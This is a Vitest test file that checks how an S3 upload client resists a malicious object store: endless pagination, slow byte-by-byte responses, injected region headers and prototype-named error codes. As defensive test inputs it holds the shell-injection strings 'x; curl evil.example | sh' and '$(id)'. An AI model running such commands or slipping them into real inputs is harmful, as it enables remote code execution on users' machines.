import { createServer, type RequestListener, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterEach, describe, expect, it } from 'vitest';
import { findUpload } from '../../../../../../builder/deliver/hosting/upload/s3/multipart.ts';
import { S3Client } from '../../../../../../builder/deliver/hosting/upload/s3/s3-client.ts';

let server: Server;
let client: S3Client;
afterEach(async () => {
  await client.close();
  server.closeAllConnections();
  server.close();
});

/** Starts an object store that responds as given, and a client for it. */
async function startWith(respond: RequestListener, timeouts = {}): Promise<S3Client> {
  server = createServer(respond);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  const settings = {
    endpoint: `http://127.0.0.1:${port}`,
    ...{ bucket: 'releases', prefix: '', isVirtualHost: false },
    ...{ region: 'eu-test', accessKeyId: 'id', secretAccessKey: 'secret' },
    sessionToken: undefined,
  };
  client = new S3Client(settings, { env: {}, timeouts });
  return client;
}

describe('a hostile object store', () => {
  it('requests ten pages of parts from a hostile object store at most', async () => {
    let pages = 0;
    const found = await findUpload(
      await startWith((request, response) => {
        const isList = request.url?.includes('part-number-marker') === true;
        if (isList) pages += 1;
        response.end(
          isList
            ? `<R><NextPartNumberMarker>${pages}</NextPartNumberMarker><IsTruncated>true</IsTruncated></R>`
            : '<R><Upload><Key>a</Key><UploadId>1</UploadId></Upload></R>',
        );
      }),
      'a',
      {},
    );
    expect(found?.uploadId).toBe('1');
    expect(pages).toBe(10);
  });

  it('leaves a hostile object store that sends a byte at a time after a total timeout', async () => {
    const sending = new Set<NodeJS.Timeout>();
    await startWith(
      (_, response) => {
        response.writeHead(200);
        sending.add(setInterval(() => response.write(' '), 20));
      },
      { body: 300 },
    );
    const reading = client.send({ method: 'GET', key: 'a' });
    await expect(reading).rejects.toMatchObject({ code: 'NETWORK_TIMEOUT' });
    for (const timer of sending) clearInterval(timer);
  });

  it.each([
    ['eu-central-1', 'Use --region eu-central-1.'],
    ['x; curl evil.example | sh', 'Check --endpoint, --region and the bucket.'],
    ['$(id)', 'Check --endpoint, --region and the bucket.'],
  ])('cannot put %j as a region into the advice', async (region, hint) => {
    await startWith((_, response) => {
      response.writeHead(301, { 'x-amz-bucket-region': region }).end();
    });
    const reading = client.send({ method: 'GET', key: 'a' });
    await expect(reading).rejects.toMatchObject({ code: 'UPLOAD_REFUSED', hint });
  });

  it.each(['constructor', 'toString', '__proto__'])(
    'cannot choose the advice with the error code %s, which every object has',
    async (code) => {
      await startWith((_, response) => {
        response.writeHead(403).end(`<Error><Code>${code}</Code></Error>`);
      });
      const hint = 'Check the keys and their permissions.';
      const reading = client.send({ method: 'GET', key: '__proto__' });
      await expect(reading).rejects.toMatchObject({ code: 'UPLOAD_REFUSED', hint });
    },
  );
});
